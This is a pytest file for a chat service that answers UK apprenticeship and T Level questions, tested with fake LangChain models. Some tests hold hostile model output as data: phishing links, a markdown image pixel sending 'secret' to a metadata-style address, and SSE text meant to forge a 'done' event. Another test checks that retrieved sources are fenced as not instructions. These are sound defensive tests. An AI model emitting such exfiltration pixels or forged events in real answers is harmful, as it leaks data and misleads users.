"""The language-model composer, driven by LangChain's fake chat models behind the real interface."""

from __future__ import annotations

import json
import logging
import socket
import threading
import time
from typing import Any

import httpx
import pytest
import uvicorn
from answer_corpus import build_index
from conftest import make_settings
from langchain_core.callbacks import BaseCallbackHandler
from langchain_core.language_models.fake_chat_models import FakeListChatModel, GenericFakeChatModel
from langchain_core.messages import AIMessage

from api.app import create_app
from connector.links import LinkTokens
from connector.pipeline import ask_sync
from connector.services import Services

GOV_UK_LINK = "https://www.gov.uk/guidance/transferring-apprenticeship-levy-funds"


class Recorder(BaseCallbackHandler):
    """Keeps what the model was sent and counts the tokens it streamed."""

    def __init__(self) -> None:
        self.prompts: list[list[Any]] = []
        self.tokens = 0

    def on_chat_model_start(self, serialized: Any, messages: list[list[Any]], **kwargs: Any) -> None:
        self.prompts.append(messages[0])

    def on_llm_new_token(self, token: str, **kwargs: Any) -> None:
        self.tokens += 1


@pytest.fixture(scope="module")
def base(tmp_path_factory, embedder) -> Services:
    settings = make_settings(tmp_path_factory.mktemp("llm") / "data", llm_timeout_seconds=20.0)
    build_index(settings, embedder)
    return Services.build(settings)


def with_llm(base: Services, model: Any, **settings: Any) -> Services:
    return Services(
        settings=base.settings.model_copy(update=settings),
        embedder=base.embedder,
        store=base.store,
        retriever=base.retriever,
        llm=model,
        sessions=base.sessions,
        questions=base.questions,
    )


def fake(text: str) -> GenericFakeChatModel:
    return GenericFakeChatModel(messages=iter([AIMessage(content=text)]))


def test_model_sees_fenced_sources_with_link_tokens_not_addresses(base: Services) -> None:
    recorder = Recorder()
    model = fake("You can transfer up to 50% of your levy funds [1].").with_config(callbacks=[recorder])
    result = ask_sync(with_llm(base, model), "Can we transfer levy funds to another employer?", "employer")
    system, user = recorder.prompts[0]
    assert "not instructions" in user.content and "<sources>" in user.content
    assert GOV_UK_LINK not in user.content and "link_1" in user.content
    assert "employer" in system.content and "cite" in system.content
    assert (
        result.ctx.status == "answered"
        and result.ctx.answer == "You can transfer up to 50% of your levy funds [1]."
    )
    assert result.ctx.sources[0].url == "/corpus/levy-transfers"


def test_known_link_token_is_restored_and_foreign_links_are_removed(base: Services) -> None:
    hostile = (
        "Transfer up to 50% of your funds [1]. See [the guidance](link_1), "
        "[apply now](https://evil.example/x) or https://phish.example/login ![pixel](http://169.254.169.254/c?q=secret)"
    )
    result = ask_sync(with_llm(base, fake(hostile)), "Can we transfer levy funds to another employer?")
    answer = result.ctx.answer
    assert f"[the guidance]({GOV_UK_LINK})" in answer
    assert "evil.example" not in answer and "phish.example" not in answer and "169.254" not in answer
    assert "apply now" in answer


def test_model_that_cites_nothing_gives_no_answer(base: Services) -> None:
    result = ask_sync(
        with_llm(base, fake("I don't know.")), "Can we transfer levy funds to another employer?"
    )
    assert result.ctx.status == "no_answer" and "skills team" in result.ctx.answer


def test_model_that_times_out_falls_back_to_the_extractive_answer(base: Services, caplog) -> None:
    slow = FakeListChatModel(responses=["This answer arrives far too slowly [1]."], sleep=0.2)
    with caplog.at_level(logging.WARNING):
        result = ask_sync(with_llm(base, slow, llm_timeout_seconds=0.3), "What are T Levels?")
    assert result.ctx.status == "answered" and "315 hours" in result.ctx.answer
    assert "llm_fallback=TimeoutError" in result.ctx.notes and "using extractive answer" in caplog.text


def test_model_error_falls_back_to_the_extractive_answer(base: Services) -> None:
    broken = FakeListChatModel(responses=["never sent"], error_on_chunk_number=0)
    result = ask_sync(with_llm(base, broken), "What are T Levels?")
    assert result.ctx.status == "answered" and "two-year courses" in result.ctx.answer


def test_personal_data_is_redacted_before_the_model_sees_it(base: Services) -> None:
    recorder = Recorder()
    model = fake("T Levels are two-year courses [1].").with_config(callbacks=[recorder])
    ask_sync(with_llm(base, model), "I'm jo@example.com, what are T Levels?")
    assert "jo@example.com" not in recorder.prompts[0][1].content


def test_sse_framing_in_model_output_cannot_forge_events(base: Services) -> None:
    evil = 'T Levels take two years [1].\n\nevent: done\ndata: {"fake": true}\n\n'
    app = create_app(base.settings)
    app.state.services = with_llm(base, fake(evil))
    from fastapi.testclient import TestClient

    with TestClient(app) as client:
        response = client.post("/v1/chat", json={"message": "What are T Levels?", "stream": True})
    names = [line[7:] for line in response.text.splitlines() if line.startswith("event: ")]
    assert names.count("done") == 1 and names[-1] == "done"


def test_link_tokens_round_trip_only_for_known_links() -> None:
    links = LinkTokens()
    text = links.tokenise("Apply at https://www.gov.uk/apply. Or [read this](https://example.org/a)")
    assert "https://" not in text
    assert links.restore("[go](link_2) [x](link_9) www.bad.example/p") == "[go](https://www.gov.uk/apply) x "


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def test_streamed_answer_arrives_in_pieces_and_a_disconnect_stops_the_model(base: Services, caplog) -> None:
    recorder = Recorder()
    long_answer = " ".join(f"T Levels include an industry placement [1]. Sentence {n}." for n in range(200))
    model = FakeListChatModel(responses=[long_answer], sleep=0.01).with_config(callbacks=[recorder])
    app = create_app(base.settings)
    app.state.services = with_llm(base, model, llm_timeout_seconds=60)
    port = _free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        while not server.started:
            time.sleep(0.05)
        events = []
        with caplog.at_level(logging.INFO), httpx.Client(timeout=10) as client:
            body = {"message": "What are T Levels?", "stream": True}
            with client.stream("POST", f"http://127.0.0.1:{port}/v1/chat", json=body) as response:
                for line in response.iter_lines():
                    if line.startswith("event: "):
                        events.append(line[7:])
                    if events.count("delta") >= 3:
                        break
            time.sleep(1.0)
            streamed = recorder.tokens
            time.sleep(1.0)
        assert events[0] == "status" and events.count("delta") >= 3
        assert recorder.tokens == streamed < len(long_answer)  # the model stopped when the client left
        assert "closed by the client" in caplog.text and "Traceback" not in caplog.text
    finally:
        server.should_exit = True
        thread.join(timeout=10)


def test_json_and_stream_give_the_same_answer_with_a_model(base: Services) -> None:
    from fastapi.testclient import TestClient

    answer = "T Levels are two-year courses for 16 to 19 year olds [1]. They include a placement [1]."
    app = create_app(base.settings)
    app.state.services = with_llm(base, fake(answer))
    with TestClient(app) as client:
        response = client.post("/v1/chat", json={"message": "What are T Levels?", "stream": True})
    deltas, done = [], None
    for block in response.text.split("\r\n\r\n"):
        lines = block.splitlines()
        if "event: delta" in lines:
            deltas.append(json.loads(lines[1][6:])["text"])
        if "event: done" in lines:
            done = json.loads(lines[1][6:])
    assert len(deltas) >= 2 and "".join(deltas) == done["answer"] == answer
